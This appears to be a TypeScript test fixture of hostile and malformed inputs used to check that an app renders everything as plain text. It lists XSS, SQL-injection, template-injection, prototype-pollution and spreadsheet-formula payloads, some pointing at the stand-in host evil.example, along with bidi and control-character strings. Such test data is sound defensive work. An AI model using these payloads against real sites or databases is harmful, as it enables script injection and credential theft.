/**
 * Texts that try to become markup, script, a query or a template (after the OWASP filter evasion list and CommonMark's
 * cases of raw HTML). All of them are text.
 */
export const HOSTILE_TEXTS: readonly string[] = [
	'<script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'<ScRiPt/src=//evil.example></sCrIpT>',
	'"><img src=x onerror=alert(1)>',
	"'><svg/onload=alert(1)>",
	'<img """><script>alert("1")</script>">',
	'<a href="javascript:alert(1)">баса салыңыз</a>',
	'<a href="jav&#x0A;ascript:alert(1)">x</a>',
	'[баса салыңыз](javascript:alert(1)) [x](data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)',
	'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>//',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<form action=https://evil.example><input name=password></form>',
	'<style>@import url(https://evil.example)</style>',
	'<meta http-equiv=refresh content="0;url=https://evil.example">',
	'<!--><img src=x onerror=alert(1)-->',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<?php echo 1 ?> <!ELEMENT br EMPTY>',
	'&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;',
	'<b onmouseover=alert(1)>қалың</b>',
	"'; drop table comment; --",
	"x' or '1'='1 \\' \\\\ %_ %0a %00",
	'{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>',
	'{@html body} {#if true}x{/if}',
	'{"__proto__":{"isAdmin":true}}',
	'=HYPERLINK("https://evil.example";"x")',
	'\n{"level":60,"msg":"жалған жазба"}',
];

/** Texts that are broken, endless or invisible: kept cleaned, or refused with words, never an error of ours. */
export const BROKEN_TEXTS: Readonly<Record<string, string>> = {
	'bidi overrides': 'баға \u202E0001\u202C теңге \u2066x\u2069',
	'zero-width characters': 'бюд\u200B\u200C\u200D\uFEFFжет\u2060',
	'a thousand marks on one letter': `З${'\u0337\u0489'.repeat(500)}`,
	'a NUL': 'ақ\u0000ша қайда',
	'terminal escapes': '\u001B[2J\u001B[31mқызыл\u0007',
	noncharacters: 'шет\uFFFF\uFFFE\u{10FFFF} емес',
	'a right-to-left text': 'مرحبا ‏שלום‎ сәлем',
	'only invisible characters': '\u200B\u3164\u2800\u00AD',
	'one word of 2000 letters': 'ә'.repeat(2000),
	'one letter too many': 'ә'.repeat(2001),
	'a million letters': 'ә'.repeat(200_000),
	'a desert of empty lines': `а${'\n'.repeat(1900)}б`,
};
